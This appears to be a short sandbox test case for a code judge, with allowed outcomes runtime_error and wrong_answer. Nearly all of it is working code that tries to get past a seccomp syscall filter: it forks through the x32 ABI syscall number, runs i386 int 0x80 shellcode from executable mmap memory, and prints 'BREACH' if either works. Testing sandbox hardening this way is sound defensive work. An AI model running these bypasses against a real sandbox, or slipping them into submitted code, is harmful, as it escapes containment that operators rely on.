# allowed: runtime_error, wrong_answer
# 32-bit / x32 ABI syscalls to dodge the filter.
# Both other doors into the kernel kill the process that knocks.

import ctypes, os
def solve(x):
    l = ctypes.CDLL(None, use_errno=True)
    if l.syscall(0x40000000 | 57) == 0: os._exit(0)          # x32 fork
    import mmap
    m = mmap.mmap(-1, 4096, prot=7)     # mov eax,2 (i386 fork); int 0x80; ret
    m.write(bytes.fromhex("b802000000cd80c3"))
    f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
    r = f()
    if r == 0: os._exit(0)
    print("BREACH i386 fork" if r > 0 else r)
    return x
